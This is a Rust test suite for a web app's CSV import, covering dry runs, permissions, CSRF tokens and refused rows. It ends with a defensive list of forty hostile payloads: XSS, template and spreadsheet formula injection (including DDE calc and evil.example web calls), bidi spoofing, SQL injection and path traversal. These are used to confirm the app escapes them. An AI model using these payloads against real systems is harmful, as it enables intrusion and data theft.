//! Files in over HTTP: who may, what is refused, what is shown, what is remembered.

use std::time::Duration;

use axum::http::{StatusCode, header};

use crate::browser::{Answer, Browser, Node, PASSWORD};

/// The largest file, in bytes, as the settings of these nodes say it: larger than what other forms take.
pub(crate) const FILE_BYTES_MAX: usize = 24 << 20;
/// Longer than any file of these tests takes.
const DEADLINE: Duration = Duration::from_secs(60);

/// Invented clubs.
pub(crate) const CLUBS: &str = "Identifiant;Nom du club;Commune;Code INSEE;Note\n\
    C1;Les Archers inventés;Gien;45155;un mot\n\
    C2;Le Cercle inventé;Gien;45155;\n";

pub(crate) async fn begin(
    browser: &mut Browser<'_>,
    source: &str,
    name: &str,
    file: &[u8],
) -> Answer {
    let token = browser.open("/importer").await.token();
    let fields = [
        ("token", token.as_str()),
        ("genre", "actor"),
        ("source", source),
    ];
    browser.upload("/importer", &fields, (name, file)).await
}

/// The choices that the page of columns shows, as a browser would send them back.
fn chosen(page: &Answer) -> Vec<(String, String)> {
    let mut chosen = Vec::new();
    for select in page.body.split("<select id=\"c").skip(1) {
        let id = format!("c{}", select.split('"').next().expect("is closed"));
        let options = select.split("</select>").next().expect("is closed");
        let (before, _) = options.split_once("\" selected>").expect("one is chosen");
        let value = before.rsplit("value=\"").next().expect("has a value");
        chosen.push((id, value.to_owned()));
    }
    chosen
}

/// Sends the columns as they are shown, but for some, and waits for the dry run.
pub(crate) async fn try_out(
    browser: &mut Browser<'_>,
    begun: &Answer,
    changes: &[(&str, &str)],
) -> (String, Answer) {
    assert_eq!(begun.status, StatusCode::SEE_OTHER, "{}", begun.body);
    let columns = begun.location().to_owned();
    let page = browser.open(&columns).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let mut fields = vec![("token".to_owned(), page.token())];
    fields.extend(chosen(&page));
    for (id, value) in changes {
        let field = fields.iter_mut().find(|(field, _)| field == id);
        (*value).clone_into(&mut field.expect("is a column").1);
    }
    let fields: Vec<_> = fields
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let sent = browser.post(&columns, &fields).await;
    let place = columns
        .strip_suffix("/colonnes")
        .expect("is the page of columns")
        .to_owned();
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let answer = wait(browser, &place).await;
    (place, answer)
}

/// Opens the page of an import until it stops asking for itself again.
pub(crate) async fn wait(browser: &mut Browser<'_>, place: &str) -> Answer {
    let waited = tokio::time::timeout(DEADLINE, async {
        loop {
            let answer = browser.open(place).await;
            assert_eq!(answer.status, StatusCode::OK, "{}", answer.body);
            if !answer.headers.contains_key(header::REFRESH) {
                return answer;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    });
    waited.await.expect("the work ends in time")
}

pub(crate) async fn write(
    browser: &mut Browser<'_>,
    place: &str,
    report: &Answer,
    refused: &str,
) -> Answer {
    let token = report.token();
    let fields = [("token", token.as_str()), ("refus", refused)];
    let sent = browser.post(&format!("{place}/ecrire"), &fields).await;
    assert_eq!(sent.location(), place);
    wait(browser, place).await
}

pub(crate) async fn logged_in<'a>(node: &'a Node, name: &str) -> Browser<'a> {
    let mut browser = node.browser();
    browser.log_in(name, PASSWORD).await;
    browser
}

pub(crate) fn records(node: &Node) -> u64 {
    let replica = node.replica.as_ref().expect("a census");
    assert!(replica.wait_for_views(DEADLINE));
    replica
        .read()
        .expect("a snapshot")
        .counts()
        .expect("readable")
        .records
}

#[tokio::test]
async fn a_table_is_tried_then_written_and_its_records_are_one_click_away() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let begun = begin(&mut browser, "Clubs", "clubs.csv", CLUBS.as_bytes()).await;
    let (place, report) = try_out(&mut browser, &begun, &[("c4", "x_note")]).await;
    assert!(
        report.body.contains("2 nouvelles fiches"),
        "{}",
        report.body
    );
    assert_eq!(records(&node), 0, "a dry run writes nothing");
    let done = write(&mut browser, &place, &report, "stop").await;
    assert!(done.body.contains("Import terminé"), "{}", done.body);
    assert_eq!(records(&node), 2);
    let record = done
        .between("<ul class=\"linked\"><li><a href=\"", "\"")
        .to_owned();
    let page = browser.open(&record).await;
    assert!(page.body.contains("Les Archers inventés"), "{}", page.body);
    // Neither the columns nor the dry run can be come back to: it is written.
    let again = browser.open(&format!("{place}/colonnes")).await;
    assert_eq!(again.location(), place);

    // The same source again: the columns are remembered, and nothing is new.
    let begun = begin(&mut browser, "Clubs", "clubs-2.csv", CLUBS.as_bytes()).await;
    let columns = browser.open(begun.location()).await;
    assert!(
        columns.body.contains("La correspondance retenue"),
        "{}",
        columns.body
    );
    assert!(chosen(&columns).contains(&("c4".to_owned(), "x_note".to_owned())));
    let (_, report) = try_out(&mut browser, &begun, &[]).await;
    assert!(report.body.contains("rien de nouveau"), "{}", report.body);
}

#[tokio::test]
async fn the_record_of_a_source_shows_its_columns_and_its_last_import() {
    let node = Node::with_census();
    let replica = node.replica.as_deref().expect("made with a census");
    let mut browser = logged_in(&node, "noe").await;
    let empty = browser.open("/sources").await.body;
    assert!(empty.contains("Aucune source n’est décrite"), "{empty}");
    let described = crate::census::record(replica, "source", "Annuaire des clubs");
    assert!(replica.wait_for_views(DEADLINE), "the index follows");
    let page = format!("/fiches/{described}");
    let never = browser.open(&page).await.body;
    assert!(never.contains("Rien n’a encore été importé sous ce nom"));
    assert!(never.contains("/importer?source=Annuaire%20des%20clubs"));
    let form = browser
        .open("/importer?source=Annuaire%20des%20clubs")
        .await;
    let typed = "value=\"Annuaire des clubs\" list=\"sources\"";
    assert!(form.body.contains(typed), "{}", form.body);
    // The name is that of the record, but for its capitals.
    let begun = begin(
        &mut browser,
        "annuaire des clubs",
        "clubs.csv",
        CLUBS.as_bytes(),
    )
    .await;
    let (place, report) = try_out(&mut browser, &begun, &[]).await;
    let untried = browser.open(&page).await.body;
    assert!(
        untried.contains("Rien n’a encore été importé"),
        "a dry run is none"
    );
    write(&mut browser, &place, &report, "stop").await;
    let begun = begin(&mut browser, "Autre liste", "autre.csv", CLUBS.as_bytes()).await;
    let (place, report) = try_out(&mut browser, &begun, &[]).await;
    write(&mut browser, &place, &report, "stop").await;
    let shown = browser.open(&page).await.body;
    for said in [
        "« clubs.csv », par noe",
        "Lignes : 2 ; nouvelles : 2 ; modifiées : 0 ; inchangées : 0 ; refusées : 0",
        "<bdi>Nom du club</bdi> → <bdi>Nom</bdi>",
    ] {
        assert!(
            shown.contains(
                &said
                    .replace(" ;", "\u{a0};")
                    .replace(" :", "\u{a0}:")
                    .replace("« ", "«\u{a0}")
                    .replace(" »", "\u{a0}»")
            ),
            "{said}: {shown}"
        );
    }
    assert!(!shown.contains("autre.csv"), "of another source");
    let list = browser.open("/sources").await.body;
    let with_record = format!("<a href=\"{page}\"><bdi>Annuaire des clubs</bdi></a>");
    assert!(list.contains(&with_record), "{list}");
    assert!(list.contains("<bdi>Autre liste</bdi> <span class=\"badge\">Sans fiche"));
    assert_eq!(list.matches("Annuaire des clubs</bdi>").count(), 1);
    let mut reader = logged_in(&node, "ana").await;
    let seen = reader.open("/sources?lang=en").await.body;
    assert!(seen.contains("Last import here") && !seen.contains("/importer?source="));
    let other = crate::census::record(replica, "actor", "Annuaire des clubs");
    assert!(replica.wait_for_views(DEADLINE), "views are built");
    let actor = browser.open(&format!("/fiches/{other}")).await.body;
    assert!(!actor.contains("source-imports"), "no source");
}

#[tokio::test]
async fn only_who_may_write_imports_and_only_their_own() {
    let node = Node::with_census();
    let (mut noe, mut zoe, mut ana) = (
        logged_in(&node, "noe").await,
        logged_in(&node, "zoe").await,
        logged_in(&node, "ana").await,
    );
    assert_eq!(ana.open("/importer").await.status, StatusCode::FORBIDDEN);
    let home = ana.open("/exporter").await;
    assert_eq!(home.status, StatusCode::OK);
    assert!(!home.body.contains("href=\"/importer\""), "{}", home.body);
    let token = home.token();
    let sent = ana
        .upload(
            "/importer",
            &[("token", &token)],
            ("a.csv", CLUBS.as_bytes()),
        )
        .await;
    assert_eq!(sent.status, StatusCode::FORBIDDEN);
    let mut stranger = node.browser();
    let sent = stranger
        .upload("/importer", &[], ("a.csv", CLUBS.as_bytes()))
        .await;
    assert_eq!(sent.location(), "/connexion");

    let begun = begin(&mut noe, "", "clubs.csv", CLUBS.as_bytes()).await;
    let columns = begun.location().to_owned();
    let place = columns
        .strip_suffix("/colonnes")
        .expect("columns")
        .to_owned();
    let token = zoe.open("/importer").await.token();
    for path in ["", "/colonnes", "/problemes.csv"] {
        let answer = zoe.open(&format!("{place}{path}")).await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
    }
    for path in ["/colonnes", "/essayer", "/ecrire", "/abandonner", "/genre"] {
        let answer = zoe
            .post(&format!("{place}{path}"), &[("token", &token)])
            .await;
        assert_eq!(answer.status, StatusCode::NOT_FOUND, "{path}");
        let answer = noe
            .post(&format!("{place}{path}"), &[("token", "no")])
            .await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{path}");
    }
    // What nobody has tried is not written.
    let token = noe.open(&columns).await.token();
    let sent = noe
        .post(
            &format!("{place}/ecrire"),
            &[("token", &token), ("refus", "row")],
        )
        .await;
    assert_eq!(sent.location(), place);
    assert_eq!(noe.open(&place).await.location(), columns);
    assert_eq!(records(&node), 0);
    let sent = noe
        .post(&format!("{place}/abandonner"), &[("token", &token)])
        .await;
    assert_eq!(sent.location(), "/importer");
    assert_eq!(noe.open(&place).await.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_file_is_read_only_behind_the_token_of_its_browser() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let token = browser.open("/importer").await.token();
    let wrong = "A".repeat(token.len());
    let cases: [&[(&str, &str)]; 4] = [
        &[],
        &[("token", "")],
        &[("token", &wrong)],
        &[("genre", "actor"), ("token", &token)],
    ];
    for fields in cases {
        let sent = browser
            .upload("/importer", fields, ("a.csv", CLUBS.as_bytes()))
            .await;
        assert_eq!(sent.status, StatusCode::FORBIDDEN, "{fields:?}");
    }
    let long = "a".repeat(5_000);
    let fields = [("token", token.as_str()), ("source", long.as_str())];
    let sent = browser
        .upload("/importer", &fields, ("a.csv", CLUBS.as_bytes()))
        .await;
    assert_eq!(sent.status, StatusCode::BAD_REQUEST);
    let sent = browser.post("/importer", &[("token", &token)]).await;
    assert!(sent.status.is_client_error(), "{}", sent.status);
}

#[tokio::test]
async fn a_file_that_is_no_table_says_what_to_do() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let rubbish: Vec<u8> = (0..4_096_u32)
        .map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    for (name, file, said) in [
        ("a.csv", &rubbish[..], "."),
        ("a.csv", b"", "vide"),
        ("a.xlsx", b"PK\x03\x04\x14\0\x06\0", "CSV UTF-8"),
        ("a.json", b"[{\"nom\":", "coup"),
        ("a.csv", b"\0\0\0\0", "."),
        ("", b"", "Choisissez un fichier"),
    ] {
        let sent = begin(&mut browser, "", name, file).await;
        assert_eq!(
            sent.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name} {}",
            sent.body
        );
        let reason = sent.between("id=\"fichier-error\" lang=\"fr\">", "</p>");
        assert!(reason.contains(said), "{name}: {reason}");
    }
    let long = "é".repeat(121);
    let sent = begin(&mut browser, &long, "a.csv", CLUBS.as_bytes()).await;
    assert!(sent.body.contains("id=\"source-error\""), "{}", sent.body);
    let fits = "é".repeat(120);
    let sent = begin(&mut browser, &fits, "a.csv", CLUBS.as_bytes()).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn refused_rows_are_left_out_or_kept_without_their_refused_cells() {
    let table =
        "Identifiant;Nom;Email\nA;Bon;a@mairie.example\nB;Mauvais;rien\nC;;c@mairie.example\n";
    for (choice, written) in [("row", 1), ("cell", 2)] {
        let node = Node::with_census();
        let mut browser = logged_in(&node, "noe").await;
        let begun = begin(&mut browser, "", "a.csv", table.as_bytes()).await;
        let (place, report) = try_out(&mut browser, &begun, &[("c2", "email")]).await;
        assert!(
            report.body.contains("2 lignes sont refusées"),
            "{}",
            report.body
        );
        assert!(report.body.contains("C · Email"), "{}", report.body);
        let list = browser.open(&format!("{place}/problemes.csv")).await;
        assert_eq!(
            list.headers[header::CONTENT_DISPOSITION],
            "attachment; filename=\"problemes-import-tableur.csv\""
        );
        assert_eq!(list.body.lines().count(), 3, "{}", list.body);
        // Somebody who asks for all or nothing gets nothing, and the report again.
        let same = write(&mut browser, &place, &report, "stop").await;
        assert!(
            same.body.contains("2 lignes sont refusées"),
            "{}",
            same.body
        );
        assert_eq!(records(&node), 0);
        let done = write(&mut browser, &place, &report, choice).await;
        assert!(done.body.contains("Import terminé"), "{}", done.body);
        assert_eq!(records(&node), written, "{choice}");
    }
}

#[tokio::test]
async fn proposed_readings_are_taken_when_they_are_ticked() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let table = "Identifiant;Nom;Code postal\nA;Un;4000\nB;Deux;4200\n";
    let begun = begin(&mut browser, "", "a.csv", table.as_bytes()).await;
    let (place, report) = try_out(&mut browser, &begun, &[("c2", "postal_code")]).await;
    let value = report
        .between("name=\"accepter\" value=\"", "\"")
        .to_owned();
    assert!(value.ends_with("|Code postal"), "{value}");
    let token = report.token();
    let fields = [
        ("token", token.as_str()),
        ("accepter", value.as_str()),
        ("accepter", "x|Autre"),
        ("accepter", "rien"),
    ];
    browser.post(&format!("{place}/essayer"), &fields).await;
    let report = wait(&mut browser, &place).await;
    assert!(
        report.body.contains("2 nouvelles fiches"),
        "{}",
        report.body
    );
}

#[tokio::test]
async fn a_table_without_a_name_column_asks_for_it() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let begun = begin(&mut browser, "", "clubs.csv", CLUBS.as_bytes()).await;
    let columns = begun.location().to_owned();
    let page = browser.open(&columns).await;
    let token = page.token();
    let fields = [
        ("token", token.as_str()),
        ("c0", ""),
        ("c1", ""),
        ("c2", ""),
        ("c3", ""),
        ("c4", ""),
    ];
    let sent = browser.post(&columns, &fields).await;
    assert_eq!(sent.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        sent.body.contains("quelle colonne donne le nom"),
        "{}",
        sent.body
    );
    // A field that the kind does not have comes from no form of ours.
    let sent = browser
        .post(&columns, &[("token", &token), ("c0", "password")])
        .await;
    assert_eq!(sent.status, StatusCode::NOT_FOUND);
    let sent = browser
        .post(
            &columns.replace("colonnes", "genre"),
            &[("token", &token), ("genre", "event")],
        )
        .await;
    assert_eq!(sent.location(), columns);
    let page = browser.open(&columns).await;
    assert!(
        page.body.contains("<option value=\"event\" selected>"),
        "{}",
        page.body
    );
}

/// Forty payloads: markup, handlers, addresses, templates, formulas, marks that turn the text around.
const PAYLOADS: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'http://evil.example'</style>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=http://evil.example>",
    "<form action=http://evil.example><input name=token>",
    "{{7*7}}",
    "{% include \"x\" %}",
    "${7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\u{202E}gpj.exe",
    "a\u{2066}b",
    "<scr\u{200B}ipt>alert(1)</scr\u{200B}ipt>",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
];

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// No markup of a payload is markup of the page.
fn is_inert(answer: &Answer, what: &str) {
    let body = &answer.body;
    for never in [
        "<script",
        "<img src=x",
        "<svg",
        "<iframe",
        "<a href=\"javascript",
        "<style",
        "<base",
        "<math",
        "<meta http-equiv=refresh",
        "<input autofocus",
        "<form action=http",
        "<details open ontoggle",
        "<body onload",
    ] {
        assert!(
            !body.to_lowercase().contains(never),
            "{what} holds {never}:\n{body}"
        );
    }
}

#[tokio::test]
async fn hostile_cells_are_text_on_every_page_and_in_every_file() {
    let node = Node::with_census();
    let mut browser = logged_in(&node, "noe").await;
    let mut table = format!("Identifiant;Nom;Email;{}\n", quoted(PAYLOADS[2]));
    for (row, payload) in PAYLOADS.iter().enumerate() {
        table.push_str(&format!("I{row};{0};{0};{0}\n", quoted(payload)));
    }
    let begun = begin(
        &mut browser,
        PAYLOADS[0],
        "<img src=x onerror=alert(1)>.csv",
        table.as_bytes(),
    )
    .await;
    is_inert(&browser.open(begun.location()).await, "columns");
    let (place, report) = try_out(&mut browser, &begun, &[("c2", "email"), ("c3", "x_note")]).await;
    is_inert(&report, "report");
    assert!(
        report
            .body
            .contains("Aucune ligne ne peut être importée telle quelle"),
        "{}",
        report.body
    );
    let list = browser.open(&format!("{place}/problemes.csv")).await;
    for line in list.body.lines().skip(1) {
        let value = line
            .split(';')
            .nth(4)
            .expect("a value")
            .trim_start_matches('"');
        assert!(!value.starts_with(['=', '+', '-', '@']), "{line}");
    }
    let done = write(&mut browser, &place, &report, "cell").await;
    is_inert(&done, "result");
    assert_eq!(records(&node), 40);
    is_inert(&browser.open("/importer").await, "imports");
    is_inert(&browser.open("/recensement").await, "census");
    for link in done.body.split("<li><a href=\"/fiches/").skip(1) {
        let record = link.split('"').next().expect("is closed");
        is_inert(&browser.open(&format!("/fiches/{record}")).await, "record");
    }
    let sheet = browser
        .open("/exporter/fichier?kind=actor&format=tableur")
        .await;
    let is_formula = |cell: &str| cell.trim_start_matches('"').starts_with(['=', '+', '@']);
    let formulas: Vec<_> = sheet
        .body
        .split([';', '\n'])
        .filter(|cell| is_formula(cell))
        .collect();
    assert_eq!(formulas, Vec::<&str>::new());
    assert_eq!(sheet.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
}
